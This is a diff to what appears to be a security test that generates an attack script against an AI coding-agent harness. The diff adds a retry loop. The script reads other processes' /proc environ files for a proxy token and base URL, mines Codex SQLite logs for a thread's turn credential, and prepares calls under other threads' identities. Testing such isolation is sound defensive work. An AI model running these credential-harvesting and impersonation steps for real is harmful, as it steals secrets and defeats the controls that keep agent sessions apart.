@@ -22,7 +22,7 @@ const operator = { kind: 'operator', source: 'static', keyId: null } as const;
  */
 function attackScript(codexHome: string, threadA: string, threadB: string, out: string): string {
   return `
-import glob, json, re, sqlite3, urllib.request, urllib.error
+import glob, json, re, sqlite3, time, urllib.request, urllib.error
 token, base = None, None
 for f in glob.glob('/proc/[0-9]*/environ'):
     try:
@@ -37,11 +37,16 @@ for f in glob.glob('/proc/[0-9]*/environ'):
         if c.startswith(b'model_providers.switchyard.base_url='):
             base = json.loads(c.split(b'=', 1)[1].decode())
 own = None
-for db in glob.glob(${JSON.stringify(codexHome)} + '/logs_*.sqlite'):
-    for (body,) in sqlite3.connect(db).execute('select feedback_log_body from logs order by id'):
-        if body and ${JSON.stringify(threadA)} in body:
-            for found in re.findall(r'${TURN_CREDENTIAL_KEY}[^A-Za-z0-9_-]+([A-Za-z0-9_-]{43})', body):
-                own = found
+# Codex writes its log in batches: look again for a while until this turn's submission is there.
+for attempt in range(100):
+    for db in glob.glob(${JSON.stringify(codexHome)} + '/logs_*.sqlite'):
+        for (body,) in sqlite3.connect(db).execute('select feedback_log_body from logs order by id'):
+            if body and ${JSON.stringify(threadA)} in body:
+                for found in re.findall(r'${TURN_CREDENTIAL_KEY}[^A-Za-z0-9_-]+([A-Za-z0-9_-]{43})', body):
+                    own = found
+    if own:
+        break
+    time.sleep(0.2)
 def call(thread, credential, model):
     meta = {'thread_id': thread, 'turn_id': 'x', 'request_kind': 'turn'}
     if credential:
